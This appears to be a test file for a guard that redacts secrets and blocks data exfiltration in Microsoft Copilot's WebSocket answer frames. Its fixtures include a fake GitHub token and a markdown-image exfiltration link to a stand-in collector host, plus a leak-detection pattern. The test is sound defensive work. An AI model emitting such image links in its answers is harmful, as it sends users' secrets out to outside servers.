/**
 * Microsoft Copilot's WebSocket frames (WIRE-FORMATS-2.md §4.2, WIRE-FORMATS.md
 * §5.6; MED: public clients, no live capture), read back the way gpt4free's
 * `Copilot.py` reads them: `appendText.text` appended, `replaceText.text`
 * replacing, `chainOfThought.text` as reasoning, `titleUpdate.title`,
 * `suggestedFollowups.suggestions`, `done` ending the answer. Socket messages
 * are not an HTTP body, so this file holds the socket's own harness: byte
 * identity when nothing matches, any split of the answer across frames equal
 * to the whole answer guarded, and a block that ends the answer with `done`.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { scanText } from '../../../src/core/guard/scan-text.ts';
import { getCorePack } from '../../../src/core/rules/builtin-packs.ts';
import { compilePack } from '../../../src/core/rules/compile-pack.ts';
import { socketFormatById } from '../../../src/core/wire/adapter-registry.ts';
import { copilotSocketFormat } from '../../../src/core/wire/adapters/copilot-socket.ts';
import { SocketAnswerGuard } from '../../../src/core/wire/socket-answer-guard.ts';
import { socketRecognisers } from '../../../src/core/wire/wire-recognisers.ts';
import { emptyPack } from '../../support/adapter-cases.ts';
import { fixture } from '../../support/wire-harness.ts';

const pack = getCorePack();
const lines = (name: string) => fixture(`copilot/${name}`).split('\n').filter(Boolean);
const benign = lines('socket-benign.txt');
const secret = lines('socket-secret.txt');
const LEAK = /ghp_|EXAMPLEexam|collector\.example\.net\/p/;
/** The core pack with the exfil image rule turned into a block. */
const imageBlocks = compilePack({
  name: 'image-blocks',
  version: '1',
  rules: pack.rules.map((r) =>
    r.id === 'markdown-image-exfil' ? { ...r.spec, action: 'block' as const } : r.spec,
  ),
});

type Frame = Record<string, unknown>;

/** What the page shows from the frames (gpt4free `Copilot.py`'s reading, §4.2). */
function readCopilot(messages: readonly string[]) {
  const answers = new Map<string, string>();
  const thoughts = new Map<string, string>();
  const shown: string[] = [];
  const done = new Set<string>();
  for (const m of messages) {
    const f = JSON.parse(m) as Frame;
    const id = String(f.messageId ?? '');
    if (f.event === 'appendText') answers.set(id, (answers.get(id) ?? '') + String(f.text));
    if (f.event === 'replaceText') answers.set(id, String(f.text));
    if (f.event === 'chainOfThought') thoughts.set(id, (thoughts.get(id) ?? '') + String(f.text));
    if (f.event === 'titleUpdate') shown.push(String(f.title));
    if (f.event === 'suggestedFollowups') shown.push(...(f.suggestions as string[]));
    if (f.event === 'done') done.add(id);
  }
  return { answers, thoughts, shown, done };
}

function guardSocket(messages: readonly string[], p = pack) {
  const guard = new SocketAnswerGuard(copilotSocketFormat, p);
  const delivered: string[] = [];
  for (const m of messages) delivered.push(...guard.push(m));
  delivered.push(...guard.end());
  return delivered;
}

const appendText = (messageId: string, text: string) =>
  JSON.stringify({ event: 'appendText', messageId, partId: '0', text });

describe('Copilot socket frames (§4.2)', () => {
  it('is known by the chat socket URL, and its format runs in the socket guard', () => {
    const probe = (url: string) => ({ url, method: 'GET', contentType: '', head: '' });
    const match = (url: string) => socketRecognisers.find((r) => r.detect(probe(url)))?.id;
    expect(match('wss://copilot.microsoft.com/c/api/chat?api-version=2&clientSessionId=x')).toBe(
      'copilot',
    );
    expect(match('ws://127.0.0.1:8123/c/api/chat?api-version=2')).toBe('copilot');
    expect(match('wss://copilot.microsoft.com/c/api/notifications')).toBeUndefined();
    expect(socketFormatById('copilot')).toBe(copilotSocketFormat);
  });

  it('with no rules, or nothing to find, the page gets the same messages', () => {
    expect(guardSocket(benign, emptyPack())).toEqual(benign);
    expect(guardSocket(secret, emptyPack())).toEqual(secret);
    expect(guardSocket(benign)).toEqual(benign);
  });

  it('guards the answer, the reasoning, the title and the follow-ups', () => {
    const delivered = guardSocket(secret);
    expect(delivered).toHaveLength(secret.length);
    const original = readCopilot(secret);
    const guarded = readCopilot(delivered);
    const answer = guarded.answers.get('m-bot-2') ?? '';
    expect(answer).toBe(scanText(pack, original.answers.get('m-bot-2') ?? '').output);
    expect(answer).toContain('[redacted:github-pat]');
    expect(guarded.thoughts.get('m-bot-2')).toBe(
      scanText(pack, original.thoughts.get('m-bot-2') ?? '').output,
    );
    expect(guarded.shown).toEqual(original.shown.map((t) => scanText(pack, t).output));
    for (const m of delivered) expect(m).not.toMatch(LEAK);
  });

  it('for any split of an answer across appendText frames, the page shows it guarded whole', () => {
    const text =
      'Token ghp_EXAMPLEexampleEXAMPLEexample01234567, chart ![x](https://collector.example.net/p?d=1) 数据 😀 end.';
    const expected = scanText(pack, text).output;
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 0, max: text.length }), { maxLength: 12 }), (at) => {
        const cuts = [...new Set([0, ...at, text.length])].sort((a, b) => a - b);
        const frames = cuts.slice(1).map((to, i) => appendText('m-1', text.slice(cuts[i], to)));
        const delivered = guardSocket([...frames, '{"event":"done","messageId":"m-1"}']);
        expect(readCopilot(delivered).answers.get('m-1') ?? '').toBe(expected);
      }),
      { numRuns: 60 },
    );
  });

  it('a block ends that answer with done, drops its later frames, and guards the next one', () => {
    const next = [
      '{"event":"startMessage","messageId":"m-bot-3"}',
      appendText('m-bot-3', 'A second, harmless answer.'),
      '{"event":"done","messageId":"m-bot-3"}',
    ];
    const delivered = guardSocket([...secret, ...next], imageBlocks);
    const read = readCopilot(delivered);
    expect(read.answers.get('m-bot-2')).toBe(
      'Here is the token you pasted: [redacted:github-pat]. And a chart ',
    );
    expect(read.done.has('m-bot-2')).toBe(true);
    expect(delivered.filter((m) => m.includes('"done"') && m.includes('m-bot-2'))).toEqual([
      '{"event":"done","messageId":"m-bot-2"}',
    ]);
    expect(delivered.some((m) => m.includes('suggestedFollowups'))).toBe(false);
    expect(read.answers.get('m-bot-3')).toBe('A second, harmless answer.');
    expect(read.done.has('m-bot-3')).toBe(true);
    for (const m of delivered) expect(m).not.toMatch(LEAK);
  });

  it('a frame that is not JSON passes; an unknown event passes and is reported', () => {
    const issues: string[] = [];
    const guard = new SocketAnswerGuard(copilotSocketFormat, pack, {
      onIssue: (issue) => issues.push(issue.detail),
    });
    expect(guard.push('pong')).toEqual(['pong']);
    expect(guard.push('{"event":"somethingNew","messageId":"m"}')).toEqual([
      '{"event":"somethingNew","messageId":"m"}',
    ]);
    expect(issues).toEqual(['copilot: event somethingNew']);
  });
});
